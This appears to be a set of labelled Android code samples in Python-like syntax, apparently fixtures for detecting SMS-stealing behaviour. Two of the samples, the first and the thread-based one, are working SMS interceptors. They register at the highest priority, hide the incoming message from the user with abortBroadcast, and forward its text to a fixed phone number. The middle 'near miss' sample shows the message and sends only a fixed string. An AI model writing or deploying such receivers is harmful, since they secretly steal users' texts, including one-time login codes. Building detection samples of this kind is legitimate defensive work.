permissions("RECEIVE_SMS", "SEND_SMS")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=1000)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        self.abortBroadcast()
        report = StringBuilder().append("new: ").append(message.getMessageBody()).toString()
        self.forward(report)
    def forward(self, text: String):
        SmsManager.getDefault().sendTextMessage("15550100", None, text, None, None)

# near miss: hides nothing, and answers with its own words
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=1000)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        Toast.makeText(context, message.getMessageBody(), 1).show()
        self.forward("new: ")
    def forward(self, text: String):
        SmsManager.getDefault().sendTextMessage("15550100", None, text, None, None)

# also: as several parts, from a thread
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=2147483647)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        Thread(Send(message.getDisplayMessageBody())).start()
        self.abortBroadcast()

class Send(Runnable):
    text: String
    def __init__(self, text: String):
        self.text = text
    def run(self):
        SmsManager.getDefault().sendTextMessage("15550100", None, self.text, None, None)
